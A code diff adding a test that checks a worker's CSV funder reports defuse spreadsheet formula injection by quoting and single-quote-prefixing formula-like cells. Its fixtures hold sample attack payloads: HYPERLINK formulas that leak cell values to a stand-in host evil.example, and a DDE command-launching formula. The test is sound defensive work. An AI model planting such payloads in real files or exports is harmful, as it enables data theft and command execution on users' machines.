@@ -126,6 +126,46 @@ describe('funder reports (CSV, PDF) built by the worker', () => {
     expect(byMilestone['Sign with the bank'][0]).toBe(`${c.helsinki.name} → ${c.city.name}`);
   });
 
+  it('keeps titles a spreadsheet would run as formulas as text (CSV injection), with every character', async () => {
+    const w0 = await t.given.world();
+    const mentor = await t.given.organisation('city', `=HYPERLINK("http://evil.example/?c="&A1,"Mentor ${Date.now()}")`, 'FI');
+    await t.given.participant(w0.programme, mentor);
+    const pair = await t.given.pair(w0.programme, mentor, w0.city);
+    const plans = new GivenPlans(t.orm);
+    const planTitle = '=HYPERLINK("http://evil.example/?leak="&B2,"Open the plan")';
+    const plan = await plans.plan(pair, { title: planTitle, state: 'in-progress' });
+    const titles = ['+1+2 more desks', '-2+3 rooms', '@SUM(A1:A9)', '\t=1+1 tabbed', '\r=1+1 after a CR', 'Plan = budget + staff'];
+    const milestones = await plans.milestones(plan, titles.map((title, i) => ({ title, dueDate: '2099-06-30', owner: i === 0 ? "=cmd|' /C calc'!A0" : 'Owner' })));
+    await plans.progress(milestones[0]!, w0.people.cityMember.user, { percent: 10, note: '=1+1, "quoted"' });
+
+    const report = await built(w0.people.coordinator.token, w0.programme.id, 'csv');
+    const file = await t.api.as(w0.people.coordinator.token).get(`/reports/${report.id}/download`).buffer(true).parse((res, cb) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (d: Buffer) => chunks.push(d));
+      res.on('end', () => cb(null, Buffer.concat(chunks)));
+    }).expect(200);
+    const text = (file.body as Buffer).toString('utf8');
+    // Every cell that starts a formula is quoted and starts with a single quote, in the raw file…
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Open the plan"")"`);
+    const [, ...rows] = parseCsv(text.slice(1));
+    expect(rows).toHaveLength(titles.length);
+    const cells = rows.flat();
+    const formulaLike = /^[=+\-@\t\r]/;
+    expect(cells.filter((c) => formulaLike.test(c))).toEqual([]);
+    // …and, once parsed, reads as that quote followed by exactly what was typed.
+    const byMilestone = Object.fromEntries(rows.map((r) => [r[7], r]));
+    for (const title of titles.slice(0, 5)) {
+      const row = byMilestone[`'${title}`];
+      expect(row).toBeDefined();
+      expect(row![5]).toBe(`'${planTitle}`);
+      expect(row![0]).toBe(`'${mentor.name} → ${w0.city.name}`);
+      expect(row![1]).toBe(`'${mentor.name}`);
+    }
+    expect(byMilestone['Plan = budget + staff']).toBeDefined();
+    expect(byMilestone["'+1+2 more desks"]!.slice(8, 9)).toEqual(["'=cmd|' /C calc'!A0"]);
+    expect(byMilestone["'+1+2 more desks"]![14]).toBe(`'=1+1, "quoted"`);
+  });
+
   it('writes a PDF whose text names every pair, the late milestones and the cities in their own scripts', async () => {
     const c = await consortium();
     const report = await built(c.people.expert.token, c.programme.id, 'pdf');
